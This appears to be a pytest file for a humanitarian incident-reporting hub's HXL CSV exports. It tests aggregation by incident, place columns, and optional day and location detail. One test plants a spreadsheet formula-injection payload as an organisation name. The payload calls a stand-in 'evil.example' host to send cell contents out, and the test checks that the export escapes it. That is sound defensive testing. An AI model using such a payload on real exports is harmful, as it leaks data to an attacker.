"""Exports: aggregates from headers for coordinators; content decrypted in the member's
session, with the day and the fine place only when asked for. Both are read back with
libhxl, the HXL project's own reader, as a humanitarian data tool would read them."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import hxl
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from hub.actors import CONSOLE
from hub.areas import service as areas
from hub.areas.importing import parse_csv
from hub.exports.service import Places
from hub.members.models import Role
from tests.hub.reports.factories import API, Party, World, flash, member_of, publish, world

PLACES = ["#country+code", "#adm1+code", "#adm2+code", "#adm3+code", "#loc+code"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _hxl(text: str, tmp_path: Path) -> Any:
    """The export as libhxl reads it: tagged columns, then the data rows as dicts."""
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    dataset = hxl.data(str(path), hxl.InputOptions(allow_local=True))
    tags = [column.display_tag for column in dataset.columns]
    return tags, [dict(zip(tags, row.values, strict=True)) for row in dataset]


def _incident(client: TestClient, w: World, **changes: Any) -> str:
    """A flash, its update and its final report: three reports, one incident."""
    flash_ = publish(client, w.a, flash(**changes))
    for stage, injured in (("update", 3), ("final", 4)):
        publish(
            client,
            w.a,
            flash(
                stage=stage,
                incident_id=flash_["id"],
                body={"affected": {"national": {"injured": injured}, "international": {}}},
                **changes,
            ),
        )
    return str(flash_["id"])


def _coordinator(db_session: Session, client: TestClient, who: Party) -> dict[str, str]:
    return member_of(db_session, client, who, roles=(Role.COORDINATOR,))


def test_aggregates_count_each_incident_once_by_its_real_levels(
    db_session: Session, client: TestClient, tmp_path: Path
) -> None:
    w = world(db_session, client)
    _incident(client, w)  # three reports, one incident (armed robbery)
    publish(client, w.a, flash(category="theft_burglary"))
    publish(client, w.a, flash(category="shooting"))
    response = client.get(
        f"{API}/exports/aggregates.csv", headers=_coordinator(db_session, client, w.b)
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    tags, rows = _hxl(response.text, tmp_path)
    assert tags == [*PLACES, "#event+type+group", "#date+month", "#affected+incidents+num"]
    counted = sorted(
        (r["#adm1+code"], r["#event+type+group"], r["#affected+incidents+num"]) for r in rows
    )
    # Was 4 "crime": the flash, its update and its final report counted three times.
    assert counted == [("CD61", "crime", "2"), ("CD61", "violence", "1")]
    assert {r["#country+code"] for r in rows} == {"CD"}
    assert "Convoy" not in response.text
    assert client.get(f"{API}/exports/aggregates.csv", headers=w.b.headers).status_code == 403


def test_each_place_column_holds_one_level(db_session: Session, client: TestClient) -> None:
    """`#adm1+code` held admin2 codes and security areas alike; a security area (no
    administrative boundary) is a `#loc+code`, with its administrative parents beside it."""
    world(db_session, client)
    areas.import_areas(
        db_session,
        actor=CONSOLE,
        parsed=parse_csv(
            "code,name,parent,kind\nSA-GOMA-N,Goma nord (zone de sécurité),CD61,security_area\n"
        ),
        dataset="test-security",
    )
    places = Places(db_session)
    assert places.columns("SA-GOMA-N") == ["CD", "CD61", "", "", "SA-GOMA-N"]
    assert places.columns("CD6102") == ["CD", "CD61", "CD6102", "", ""]
    assert places.columns("CD62") == ["CD", "CD62", "", "", ""]
    assert places.columns("XX99") == ["", "", "", "", "XX99"]  # unknown to the tree: kept


def test_content_export_one_row_per_incident_with_its_latest_victims(
    db_session: Session, client: TestClient, tmp_path: Path
) -> None:
    w = world(db_session, client)
    incident = _incident(client, w, audience={"organisations": [w.b.id]})
    publish(client, w.a, flash(anonymous=True, audience={"organisations": [w.b.id]}))
    text = client.get(f"{API}/exports/reports.csv", headers=w.b.headers).text
    tags, rows = _hxl(text, tmp_path)
    assert tags[:7] == ["#meta+id", *PLACES, "#date+occurred"]
    assert len(rows) == 2
    [robbery] = [r for r in rows if r["#meta+id"] == incident]
    assert robbery["#affected+injured"] == "4"  # the final report's count, once
    assert {r["#date+occurred"] for r in rows} == {"2026-11"}
    assert "a partner organisation" in {r["#org+name"] for r in rows}
    assert (
        _rows(client.get(f"{API}/exports/reports.csv", headers=w.outsider.headers).text)[2:] == []
    )


def test_include_place_adds_a_column_and_keeps_the_area(
    db_session: Session, client: TestClient, tmp_path: Path
) -> None:
    w = world(db_session, client)
    publish(client, w.a, flash(audience={"organisations": [w.b.id]}))
    text = client.get(
        f"{API}/exports/reports.csv",
        params={"include_day": "true", "include_place": "true"},
        headers=w.b.headers,
    ).text
    tags, rows = _hxl(text, tmp_path)
    assert "#loc+code+precise" in tags
    [row] = rows
    assert row["#adm1+code"] == "CD61"  # the header's area stays
    assert row["#loc+code+precise"] == "CD6102"
    assert row["#date+occurred"] == "2026-11-23"


def test_no_cell_starts_a_spreadsheet_formula(db_session: Session, client: TestClient) -> None:
    w = world(db_session, client)
    w.a.org.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    db_session.commit()
    publish(client, w.a, flash(audience={"organisations": [w.b.id]}))
    rows = _rows(client.get(f"{API}/exports/reports.csv", headers=w.b.headers).text)
    assert rows[2][-1] == "'" + w.a.org.name
    for row in rows[2:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
